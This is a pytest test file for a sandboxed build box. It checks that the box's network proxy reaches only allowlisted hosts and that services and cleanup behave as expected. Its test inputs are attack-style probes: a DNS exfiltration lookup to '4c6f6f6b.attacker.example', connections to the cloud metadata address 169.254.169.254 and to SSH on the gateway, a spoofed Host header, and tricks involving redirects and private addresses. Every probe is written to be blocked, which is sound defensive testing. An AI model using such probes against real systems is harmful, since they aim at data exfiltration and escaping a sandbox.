"""A box with a network: what it may reach it reaches, by name; nothing else, in any way (attack S009)."""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager

import pytest

from bot.equipment import Equipment, Service
from bot.errors import UserError
from bot.ids import new_run_id
from bot.ports import BoxSpec, Snapshot
from runners.docker import DockerBoxes
from runners.docker.gate import Outside
from runners.git import GitSnapshots
from tests.boxes import IMAGE, SMALL, Guest, containers, docker, new_instance, new_repository

pytestmark = pytest.mark.docker

PUBLIC = "11.213.7.0/24"  # as public as addresses can be that nobody here has a way to
PRIVATE = "172.29.213.0/24"
ALIASES = ("registry.example", "files.cdn.example", "cdn.example", "other.example")
SERVER = """
import http.server, ssl, subprocess, threading
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302 if self.path == "/away" else 200)
        self.send_header("Location", "http://other.example/")
        self.end_headers()
        self.wfile.write(b"welcome")
    def log_message(self, *_): pass
certify = "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k -out /tmp/c -subj /CN=x"
subprocess.run(certify.split(), check=True)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("/tmp/c", "/tmp/k")
https = http.server.ThreadingHTTPServer(("", 443), Answer)
https.socket = context.wrap_socket(https.socket, server_side=True)
threading.Thread(target=https.serve_forever).start()
print("ready", flush=True)
http.server.ThreadingHTTPServer(("", 80), Answer).serve_forever()
"""
# What a step tries; each line of its output is one answer.
CLIENT = """
import socket, ssl, sys, time, urllib.error, urllib.request
trusting = ssl._create_unverified_context()
def get(url, **headers):
    request = urllib.request.Request(url, headers=headers)
    return urllib.request.urlopen(request, timeout=5, context=trusting).read().decode()
def hello(address, name):
    with socket.create_connection((address, 443), 5) as raw, trusting.wrap_socket(raw, server_hostname=name):
        return "shaken"
def say(address, port, words):
    with socket.create_connection((address, port), 5) as raw:
        raw.sendall(words)
        return raw.recv(100).decode() or "closed"
def proxy():
    return socket.gethostbyname("registry.example")
for line in sys.argv[1:]:
    try:
        print(eval(line))
    except urllib.error.HTTPError as error:
        print(error.code)
    except Exception as error:
        print(type(error).__name__)
"""


ENDED = {"SSLEOFError", "SSLZeroReturnError", "ConnectionResetError"}  # however TLS tells it


def wait_for(server: str) -> None:
    deadline = time.monotonic() + 20
    while "ready" not in docker("logs", server):
        assert time.monotonic() < deadline
        time.sleep(0.05)


@contextmanager
def a_world(subnet: str) -> Iterator[Outside]:
    """A network of the engine with one web server, which has many names there."""
    name = f"test-outside-{secrets.token_hex(4)}"
    docker("network", "create", "--subnet", subnet, name)
    try:
        aliases = [word for alias in ALIASES for word in ("--network-alias", alias)]
        server = docker(
            "run", "-d", "--rm", "--network", name, *aliases, "-u", "0", IMAGE, "python3", "-c", SERVER
        )
        try:
            wait_for(server)
            yield Outside(network=name)
        finally:
            docker("rm", "-f", server)
    finally:
        docker("network", "rm", name)


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
    folder = tmp_path_factory.mktemp("network")
    repository = new_repository(folder / "shop")
    repository.commit({"client.py": CLIENT.encode()})
    return GitSnapshots(folder / "state").fetch(repository.origin())


@contextmanager
def connected(outside: Outside, snapshot: Snapshot, equipment: Equipment) -> Iterator[Guest]:
    run = new_run_id()
    spec = BoxSpec(run=run, epoch=1, image=IMAGE, limits=SMALL, equipment=equipment)
    with DockerBoxes(new_instance(), IMAGE, outside=outside).open(spec, snapshot) as box:
        yield Guest(box, run)


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    with a_world(PUBLIC) as world:
        yield world


@pytest.fixture(scope="module")
def box(outside: Outside, snapshot: Snapshot) -> Iterator[Guest]:
    allowed = Equipment(hosts=("registry.example", "*.cdn.example"))
    with connected(outside, snapshot, allowed) as opened:
        yield opened


def tries(box: Guest, *lines: str) -> list[str]:
    quoted = " ".join(f"'{line}'" for line in lines)
    return box.sh(f"python3 client.py {quoted}").out.splitlines()


def remarks(box: Guest, count: int) -> list[str]:
    """What the report says beside the steps, when it is so much: the proxy is heard of a moment later."""
    deadline = time.monotonic() + 10
    while len(told := list(box.box.remarks())) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    return told


def test_a_step_reaches_the_hosts_that_are_allowed(box: Guest) -> None:
    """By HTTP and HTTPS, by their own names and below a star."""
    said = tries(
        box,
        'get("http://registry.example/")',
        'get("https://registry.example/")',
        'get("https://files.cdn.example/")',
    )

    assert said == ["welcome"] * 3


def test_no_other_name_means_anything(box: Guest) -> None:
    """Names that exist outside, names with a message in them, and what is only above a star."""
    said = tries(
        box,
        'get("https://other.example/")',
        'socket.gethostbyname("4c6f6f6b.attacker.example")',
        'get("https://cdn.example/")',
        'get("http://registry.example/away")',
    )

    assert said[:2] == ["URLError", "gaierror"]
    assert said[2] == "URLError"
    assert said[3] == "URLError", "where a redirect leads must be allowed too"


def test_the_proxy_believes_the_name_in_a_connection_and_no_address(box: Guest) -> None:
    """Whatever a step connects for: the host it asks for has to be allowed, or the connection ends."""
    said = tries(
        box,
        'get(f"http://{proxy()}/", Host="other.example")',
        'hello(proxy(), "other.example")',
        "hello(proxy(), None)",
        'say(proxy(), 443, b"SSH-2.0-x\\r\\n")',
        'say(proxy(), 443, b"GET / HTTP/1.1\\r\\nHost: registry.example\\r\\n\\r\\n")',
    )

    assert said[0] == "403"
    assert set(said[1:3]) <= ENDED
    assert set(said[3:]) <= {"closed", "ConnectionResetError"}


def test_no_address_leads_out(box: Guest) -> None:
    """Not that server's, not the metadata service's, not this machine's, and no other port of the proxy."""
    said = tries(
        box,
        'socket.create_connection(("11.213.7.2", 80), 2)',
        'socket.create_connection(("169.254.169.254", 80), 2)',
        'socket.create_connection((proxy()[:proxy().rindex(".")] + ".1", 22), 2)',
        'socket.create_connection(("172.17.0.1", 22), 2)',
        "socket.create_connection((proxy(), 8404), 2)",
    )

    assert set(said[:4]) <= {"TimeoutError", "OSError"}
    assert said[4] == "ConnectionRefusedError"


def test_the_report_says_what_was_not_reached_and_what_would_allow_it(
    outside: Outside, snapshot: Snapshot
) -> None:
    """A sentence for each host, with the whole line for the configuration."""
    with connected(outside, snapshot, Equipment(hosts=("registry.example",))) as box:
        tries(
            box,
            'get("https://other.example/")',
            'hello(proxy(), "Files.CDN.example")',
            "hello(proxy(), None)",
        )
        told = remarks(box, 2)

    assert told == [
        "`files.cdn.example` was not reached: it is not allowed. "
        "`network: {allow: [registry.example, files.cdn.example]}` would allow it.",
        "`other.example` was not reached: it is not allowed. "
        "`network: {allow: [registry.example, other.example]}` would allow it.",
    ]


def test_a_name_that_leads_to_a_private_address_leads_nowhere(snapshot: Snapshot) -> None:
    """Allowed as it is: what it resolves to is looked at, and that address only is connected to."""
    with a_world(PRIVATE) as inside, connected(inside, snapshot, Equipment(hosts=("*",))) as box:
        said = tries(box, 'get("http://registry.example/")', 'hello(proxy(), "registry.example")')
        told = remarks(box, 1)

    assert said[0] == "403"
    assert said[1] in ENDED
    assert told == [
        "`registry.example` was not reached: its address is not public, which nothing can allow.",
    ]


def test_steps_side_by_side_have_the_same_network(box: Guest) -> None:
    """A lane that is started for the second of two steps is connected as the first one is."""
    lines = ("time.sleep(1)", 'get("http://registry.example/")')
    with ThreadPoolExecutor(2) as pool:
        both = list(pool.map(lambda _: tries(box, *lines), range(2)))

    assert both == [["None", "welcome"]] * 2


@pytest.fixture(scope="module")
def service_image() -> Iterator[str]:
    """A service of our own making: it keeps what it is sent, in its data folder, as a user of its own."""
    name = f"test-service-{secrets.token_hex(4)}"
    program = (
        "import http.server, os, pathlib\n"
        "pathlib.Path('/data/began').write_text(os.environ['GREETING'])\n"
        "os.chdir('/data')\n"
        "print('ready', flush=True)\n"
        "http.server.test(http.server.SimpleHTTPRequestHandler, port=6000)\n"
    )
    made = docker("create", "-u", "0", IMAGE, "sh", "-c", "mkdir /data && chown 1234:1234 /data")
    docker("start", "--attach", made)
    changes = [
        "USER 1234",
        "VOLUME /data",
        "EXPOSE 6000",
        'CMD ["python3", "-c", ' + json.dumps(program) + "]",
    ]
    docker("commit", *(word for change in changes for word in ("--change", change)), made, name)
    docker("rm", made)
    yield name
    docker("rmi", "-f", name)


def test_a_service_is_there_by_its_name_before_the_first_step(
    outside: Outside, snapshot: Snapshot, service_image: str
) -> None:
    """With its environment, as its own user, and with a data folder that it may write."""
    services = {"db": Service(service_image, {"GREETING": "hello"})}
    with connected(outside, snapshot, Equipment(services=services)) as box:
        said = tries(box, 'get("http://db:6000/began")', 'get("https://registry.example/")')
        assert len(containers(box.run_id, "service")) == 1

    assert said == ["hello", "URLError"], "a service opens no way out"
    assert containers(box.run_id) == []


def test_a_service_that_cannot_start_ends_the_run_with_its_own_words(
    outside: Outside, snapshot: Snapshot, service_image: str
) -> None:
    """Whoever asked reads why it did not start."""
    services = {"db": Service(service_image, {})}
    with pytest.raises(UserError, match=r"`db` ended before it was ready.*KeyError.*GREETING"):  # noqa: SIM117
        with connected(outside, snapshot, Equipment(services=services)):
            pass


def test_a_service_that_goes_away_is_told(outside: Outside, snapshot: Snapshot, service_image: str) -> None:
    """The run goes on, and its report says why its tests may have failed."""
    services = {"db": Service(service_image, {"GREETING": "x"})}
    with connected(outside, snapshot, Equipment(services=services)) as box:
        docker("kill", *containers(box.run_id, "service"))
        told = remarks(box, 1)

    assert len(told) == 1
    assert told[0].startswith("The service `db` ended during the run. It last said: ")


def test_nothing_of_a_network_is_left(outside: Outside, snapshot: Snapshot) -> None:
    """Neither after a box, nor after one that never came up."""
    with connected(outside, snapshot, Equipment(hosts=("registry.example",))) as box:
        assert networks(box.run_id)
    assert networks(box.run_id) == []

    nowhere = Outside(network="no-such-network")
    with pytest.raises(UserError, match="DEVOPS_AGENT_EGRESS_NETWORK"):  # noqa: SIM117
        with connected(nowhere, snapshot, Equipment(hosts=("registry.example",))):
            pass


def networks(run: str) -> list[str]:
    return docker("network", "ls", "--filter", f"name=devops-agent-{run}", "--format", "{{.Name}}").split()
